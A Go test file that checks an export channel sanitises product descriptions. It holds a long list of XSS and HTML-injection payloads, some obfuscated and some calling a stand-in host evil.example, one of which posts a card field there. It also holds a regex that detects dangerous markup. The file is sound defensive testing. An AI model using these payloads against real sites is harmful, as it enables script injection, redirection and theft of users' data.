package exporttest

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"tradewind.app/catalog"
	"tradewind.app/export"
)

// evil are descriptions that run, load, cover or lead away: a page that shows one of
// them as it is gives its reader away.
var evil = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<script >alert(1)</script >`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror = "alert(1)">`,
	`<p onclick="alert(1)">a</p>`,
	`<p ONMOUSEOVER='alert(1)'>a</p>`,
	`<p/onclick=alert(1)>a</p>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">a</mi></math>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<applet code="Evil.class"></applet>`,
	`<form action="https://evil.example/"><input name="card"></form>`,
	`<input autofocus onfocus=alert(1)>`,
	`<button formaction="javascript:alert(1)">a</button>`,
	`<a href="javascript:alert(1)">a</a>`,
	`<a href="JaVaScRiPt:alert(1)">a</a>`,
	`<a href="&#106;avascript:alert(1)">a</a>`,
	`<a href="java	script:alert(1)">a</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>`,
	`<a href="vbscript:msgbox(1)">a</a>`,
	`<img src="javascript:alert(1)">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<style>body{background:url(https://evil.example/)}</style>`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<body onload=alert(1)>`,
	`<div style="background:url(javascript:alert(1))">a</div>`,
	`<div style="width:expression(alert(1))">a</div>`,
	`<div style="behavior:url(#default#time2)">a</div>`,
	`<div style="-moz-binding:url(https://evil.example/x.xml#a)">a</div>`,
	`<div style="background:\75rl(https://evil.example/)">a</div>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">a</div>`,
	`<div style="margin-left:-9999px">a</div>`,
	`<video src=x onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<details open ontoggle=alert(1)>a</details>`,
	`<marquee onstart=alert(1)>a</marquee>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<p>a</p><img src=x onerror=alert(1)`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<template><script>alert(1)</script></template>`,
	`&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<table background="javascript:alert(1)"><tr><td>a</td></tr></table>`,
	// Elements of SVG and MathML, in which HTML is read by other rules.
	`<svg><animate xlink:href="#a" attributeName="href" values="javascript:alert(1)"/><a id="a"><text>a</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></use></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
	`<p title="<img src=x onerror=alert(1)>">a</p><textarea></textarea><img src=x onerror=alert(1)></textarea>`,
	// Addresses in disguise.
	`<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">a</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>`,
	`<a href="javascript&colon;alert(1)">a</a>`,
	`<a href="java&Tab;script&colon;alert&lpar;1&rpar;">a</a>`,
	"<a href=\"\x01javascript:alert(1)\">a</a>",
	`<a href=" javascript://%0aalert(1)">a</a>`,
	`<a href="data:image/svg+xml;base64,PHN2Zz4=" download>a</a>`,
	`<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">`,
	`<img srcset="https://evil.example/x.png 1x, javascript:alert(1) 2x" src="https://alder-creek.example/a.jpg">`,
	`<picture><source srcset="https://evil.example/x.png"><img src="https://alder-creek.example/a.jpg"></picture>`,
	`<a href="https://alder-creek.example/" ping="https://evil.example/">a</a>`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<META HTTP-EQUIV=refresh CONTENT="0; URL=data:text/html,<script>alert(1)</script>">`,
	`<button form="f" formaction="https://evil.example/">a</button>`,
	// Styles in disguise.
	`<div style="width:exp/**/ression(alert(1))">a</div>`,
	`<div style="w\69 dth:100px;b\61 ckground:u\72 l(https://evil.example/)">a</div>`,
	`<div style="background-image:image-set('https://evil.example/x.png' 1x)">a</div>`,
	`<div style="color:red;/*;*/position:/**/fixed;inset:0;z-index:9999">a</div>`,
	`<div style="@import 'https://evil.example/x.css'">a</div>`,
	`<div style='font-family:"a\22;background:url(https://evil.example/)"'>a</div>`,
	`<div style="background:&#117;rl(https://evil.example/)">a</div>`,
	`<font style="transform:translateX(-9999px);opacity:0">a</font>`,
	"<st\x00yle>body{display:none}</st\x00yle>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<p>a</p><!--><img src=x onerror=alert(1)>-->`,
	`<p>a</p><!-- --!><script>alert(1)</script>`,
	`<?xml-stylesheet href="javascript:alert(1)"?><p>a</p>`,
	`<img/src="x"/onerror=alert(1)//`,
	`<img src="x` + "`" + `<script>alert(1)</script>"` + "` `" + `>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<isindex action=javascript:alert(1) type=image>`,
	`<dialog open onclose=alert(1)>a</dialog><portal src="https://evil.example/"></portal>`,
	`<plaintext><script>alert(1)</script>`,
	`<p id="location" name="document"><img name="cookie" src="https://alder-creek.example/a.jpg">a</p>`,
}

// harm finds in HTML what a browser would run or fetch, or what covers the page.
var harm = regexp.MustCompile(`(?is)<\s*/?\s*(script|style|iframe|object|embed|applet|form|input|button|svg|math|link|meta|base|body|template|video|audio|marquee|details|noscript|source|picture|textarea|frame|frameset|isindex|dialog|portal|plaintext|mglyph|animate|use)\b` +
	`|<[^>]*[\s/]on\w+\s*=|(javascript|vbscript|data)\s*:|java\s+script:|url\s*\(|expression\s*\(|behavior\s*:|binding\s*:|position\s*:|:\s*-\d|srcdoc|srcset|<[^>]*\sping\s*=|image-set|<[^>]*@import|inset\s*:|z-index|transform\s*:|opacity\s*:|<!|<\?|<[^>]*$`)

// evilIsTamed proves that no description reaches a file with what harms: as HTML where
// the channel takes HTML, as text where it takes text.
func evilIsTamed(t *testing.T, c *export.Channel) {
	table, column := descriptionColumn(c)
	if column < 0 {
		t.Skip("the channel has no column of the description")
	}
	opts := Options()
	opts.All = true
	for i, text := range evil {
		p := lotion()
		p.ID, p.Handle = catalog.ID(fmt.Sprint("evil-", i)), fmt.Sprint("evil-", i)
		p.Description = "<p>before</p>" + text + "<p>after</p>"
		listing(p, p.Title, p.Description)
		view := preview(t, c, opts, p)[table]
		if len(view.Rows) == 0 {
			continue // left out: nothing of it goes anywhere
		}
		row := max(0, slices.IndexFunc(view.Rows, func(row []string) bool { return row[column] != "" }))
		got := view.Rows[row][column]
		if found := harm.FindString(got); found != "" && !(isEscaped(text) && takesHTML(&c.Spec().Tables[table].Columns[column])) {
			t.Errorf("%s goes out as %s: %q", text, got, found)
		}
		if !strings.Contains(got, "before") {
			t.Errorf("%s took the text before it along: %q", text, got)
		}
	}
}

// isEscaped reports whether a text is evil only to a reader that resolves it twice. As
// HTML it is harmless and stays.
func isEscaped(text string) bool { return strings.HasPrefix(text, "&lt;") }

// takesHTML reports whether a column carries HTML: what makes text of it says so.
func takesHTML(column *export.Column) bool {
	for _, transform := range column.Transforms {
		if transform.String() == "strip-html" {
			return false
		}
	}
	return true
}

// descriptionColumn finds the column of the description, and its table.
func descriptionColumn(c *export.Channel) (table, column int) {
	for table, t := range c.Spec().Tables {
		for column, col := range t.Columns {
			if name := col.From.String(); name == "description" || strings.HasPrefix(name, "description@") {
				return table, column
			}
		}
	}
	return -1, -1
}
